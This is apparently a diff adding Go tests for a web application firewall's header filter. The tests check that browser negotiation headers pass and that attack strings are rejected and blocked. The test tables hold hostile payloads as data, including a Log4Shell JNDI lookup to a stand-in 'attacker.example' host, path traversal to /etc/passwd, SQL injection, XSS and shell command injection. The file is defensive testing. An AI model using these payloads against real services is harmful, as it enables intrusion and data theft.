@@ -1,0 +1,111 @@
+package filter
+
+import (
+	"net/http"
+	"testing"
+)
+
+var negotiationSeeds = []string{
+	"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
+	"en-US,en;q=0.9,fr;q=0.8", "gzip, deflate, br, zstd", "max-age=0", "no-cache", "u=0, i",
+	"navigate", "same-origin", "1", "?1", "trailers", "application/json; charset=utf-8",
+	"union/select", "en;or=1", "select.version", "or 1", "sleep;5", "id,uname", "cat/etc",
+	"exec/xp_cmdshell", "java.lang.Runtime", "jndi;ldap=x", "a-b.c+d*e", "*/*",
+	"application/java.lang.Runtime", "x/exec.xp-cmdshell", "text/javascript.alert", "a/etc.passwd",
+	"x/system.exec", "x/os.system", "x/sys.objects", "x/information-schema.tables", "x/php.ini",
+}
+
+// TestNegotiationGrammar: browser values fit the form; attacks and
+// anything a detector needs to see do not.
+func TestNegotiationGrammar(t *testing.T) {
+	for _, tc := range []struct {
+		v  string
+		ok bool
+	}{
+		{"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", true},
+		{"en-US,en;q=0.9,fr;q=0.8", true},
+		{"gzip, deflate, br, zstd", true},
+		{"max-age=0", true},
+		{"no-cache, no-store, must-revalidate", true},
+		{"u=0, i", true},
+		{"application/json; charset=utf-8", true},
+		{"*/*", true},
+		{"", false},
+		{"../../../../etc/passwd", false},
+		{"..;/WEB-INF/web.xml", false},
+		{"${jndi:ldap://attacker.example/a}", false},
+		{"en' OR '1'='1", false},
+		{"en;q=0.9 union select 1", false},
+		{"<script>alert(1)</script>", false},
+		{"text/html;q=0.9 && id", false},
+		{"gzip; sleep 5", false},
+		{"a|b", false},
+		{"%2e%2e/%2e%2e", false},
+		{"$(id)", false},
+		{"text/html\r\nX-Injected: 1", false},
+		{"-rf/x", false},
+		{".hidden", false},
+		{"java.lang.Runtime", false},
+		{"exec/xp_cmdshell", false},
+		{"application/vnd.api+json;q=0.5", false},
+		{"application/signed-exchange;v=b3;q=0.7", true},
+		{"a..b", false},
+		{"en-US,en;q=0.9,id;q=0.8,zh-Hans-CN;q=0.7,es-419;q=0.6", true},
+		{"image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", true},
+		{"id;AA=0", false},
+		{"seleCtversion", false},
+		{"select", false},
+		{"en;or=1", false},
+		{"0--0", false},
+		{"union/*", false},
+		{"text/html;q=0.9999999", false},
+		{"x/y/z", false},
+		{string(make([]byte, maxNegotiationLen+1)), false},
+	} {
+		if got := negotiationClean(tc.v); got != tc.ok {
+			t.Errorf("negotiationClean(%q) = %v, want %v", tc.v, got, tc.ok)
+		}
+	}
+}
+
+// TestNegotiationHeadersStillInspected: an attack in a negotiation header
+// is blocked as before, and custom rules still see a clean value.
+func TestNegotiationHeadersStillInspected(t *testing.T) {
+	e := mustEngine(t, Config{})
+	for _, v := range []string{"${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "en' OR '1'='1' --"} {
+		r, _ := http.NewRequest("GET", "http://shop.example.com/", nil)
+		r.Header.Set("Accept-Language", v)
+		if d, err := e.InspectRequest(r, RequestInfo{All: true}); err != nil || !d.Blocked {
+			t.Errorf("Accept-Language %q: not blocked (%v)", v, err)
+		}
+	}
+	ce := mustEngine(t, Config{CustomRules: []CustomRule{{ID: "no-zstd", Targets: []string{"header"}, Pattern: `zstd`}}})
+	r, _ := http.NewRequest("GET", "http://shop.example.com/", nil)
+	r.Header.Set("Accept-Encoding", "gzip, deflate, br, zstd")
+	if d, err := ce.InspectRequest(r, RequestInfo{All: true}); err != nil || !d.Blocked {
+		t.Errorf("custom rule on a clean Accept-Encoding: not blocked (%v)", err)
+	}
+}
+
+// FuzzNegotiationHeaderClean: the detectors, at the highest paranoia, find
+// nothing in any value the negotiation form accepts, so skipping them for
+// such values changes no verdict.
+func FuzzNegotiationHeaderClean(f *testing.F) {
+	for _, s := range negotiationSeeds {
+		f.Add(s)
+	}
+	in, err := NewInspector(InspectorOptions{Paranoia: 4})
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Fuzz(func(t *testing.T, v string) {
+		if !negotiationClean(v) {
+			return
+		}
+		for name := range negotiationHeaders {
+			if hits := in.InspectValue(nil, KindHeaderValue, name, v); len(hits) > 0 {
+				t.Fatalf("%s: %q fits the negotiation form but %s finds %v", name, v, hits[0].Rule, hits)
+			}
+		}
+	})
+}
